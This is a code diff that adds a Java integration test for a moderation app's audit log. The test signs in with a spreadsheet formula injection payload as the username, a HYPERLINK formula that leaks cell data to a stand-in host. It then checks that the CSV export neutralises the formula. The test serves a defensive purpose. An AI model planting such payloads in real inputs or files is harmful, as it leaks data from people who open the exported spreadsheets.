@@ -6,6 +6,8 @@ import static org.assertj.core.api.Assertions.catchThrowable;
 import dev.moddesk.app.api.ApiClient;
 import dev.moddesk.app.api.ApiException;
 import dev.moddesk.app.api.AuditQuery;
+import dev.moddesk.app.audit.AuditLogSource;
+import dev.moddesk.app.audit.AuditViewModel;
 import dev.moddesk.app.core.ErrorMessages;
 import dev.moddesk.app.core.I18n;
 import dev.moddesk.contract.AuditEntry;
@@ -83,6 +85,24 @@ class RealServerTest {
         assertThat(get(admin.me()).role()).isEqualTo(Role.ADMIN);
         List<AuditEntry> logins = get(admin.audit(new AuditQuery("admin", "session.login", null, null, null, null, null, 50))).items();
         assertThat(logins).isNotEmpty();
+    }
+
+    @Test
+    void aFormulaTriedAsAUsernameIsExportedAsTextNotAsAFormula(@TempDir Path dir) throws Exception {
+        // Anyone can reach the audit log without signing in: a failed sign-in records the username tried.
+        String attack = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")";
+        assertThat(failure(client().login(attack, "whatever-password")).is(ProblemType.BAD_CREDENTIALS)).isTrue();
+
+        ApiClient admin = signedIn(Role.ADMIN);
+        AuditViewModel vm = new AuditViewModel(AuditLogSource.of(admin),
+                new ErrorMessages(new I18n(Locale.ENGLISH)), Runnable::run, java.time.ZoneOffset.UTC);
+        vm.actorProperty().set(attack);
+        Path file = dir.resolve("audit.csv");
+        assertThat(get(vm.export(file, Runnable::run))).isGreaterThanOrEqualTo(1);
+
+        String csv = java.nio.file.Files.readString(file);
+        assertThat(csv).contains(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\",");
+        assertThat(csv).doesNotContain(",=HYPERLINK", ",\"=HYPERLINK");
     }
 
     @Test
